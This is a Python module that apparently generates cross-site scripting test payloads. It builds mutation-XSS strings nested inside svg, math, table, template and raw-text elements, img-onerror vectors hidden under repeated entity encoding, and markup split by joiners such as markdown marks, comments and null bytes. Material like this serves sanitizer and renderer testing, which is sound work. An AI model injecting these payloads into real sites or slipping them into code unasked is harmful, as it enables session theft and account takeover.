"""Markup that means another thing when a page is parsed a second time, or in another place."""
# What a parser leaves for rules of its own, or what moves what it holds elsewhere.
AROUND = ["<svg>{0}</svg>", "<math>{0}</math>", "<math><mtext>{0}</mtext></math>",
          "<svg><desc>{0}</desc></svg>",
          "<svg><foreignObject><p>{0}</foreignObject></svg>", "<table><caption>{0}</caption></table>",
          "<table>{0}</table>",
          "<select>{0}</select>", "<form><math><mtext></form><form>{0}", "<math><mtext><table><mglyph>{0}",
          "<noscript>{0}</noscript>", "<template>{0}</template>{0}", "<p><svg></p>{0}",
          "<button>{0}<button>"]
# What reads all up to its own end as text, wherever it stands or only in HTML.
RAW = ["style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "script"]
INNER = ["<{0}><img title=\"</{0}><img src=x onerror={1}>\"></{0}>",
         "<{0}><!--</{0}><img src=x onerror={1}>--></{0}>"]


def nested():
    for around in AROUND:
        for name in RAW:
            # The two forms turn by turn, so that every pair of neighbours has both.
            inner = INNER[(AROUND.index(around) + RAW.index(name)) % len(INNER)]
            yield lambda run: around.format(inner.format(name, run))


def decoded_again():
    """Text that is markup once its references are decoded a second or a third time."""
    for depth in range(1, 4):
        for place in ["{}", "`{}`", "# {}", "[{}](/a)", "![{}](a.png)", "[x](/a \"{}\")", "    {}",
                      "```{}\ny\n```",
                      "[x](</{}>)", "[{}](javascript:0)"]:
            text = "<img src=x onerror={}>"
            for _ in range(depth):
                text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            yield place.format(text).format


def split():
    """Markup in pieces that only the output could put together."""
    for first, second in [("<img src=x onerror", "={}>"), ("<", "img src=x onerror={}>"), ("<img ",
    "src=x onerror={}>"),
                          ("<scr", "ipt>{}</script>"), ("&", "lt;img src=x onerror={}&gt;"), ("&#6",
                          "0;img src=x onerror={}>"),
                          ("<a href=", "javascript:{}>x</a>"), ("[x](java", "script:{})"),
                          ("[x](javascript", ":{})")]:
        for joint in ["**", "_", "`", "``", "\\", "\\\n", "  \n", "\n", "\n\n", "<!-- -->", "<?x?>", "&#0;",
                      "&shy;", "\x00",
                      "[]()", "![]()", "{}", "{x}", "%@", "</b>"]:
            yield lambda run: first + joint + second.format(run)


FAMILIES = {"markup that mutates": nested, "references decoded again": decoded_again,
            "markup in pieces": split}
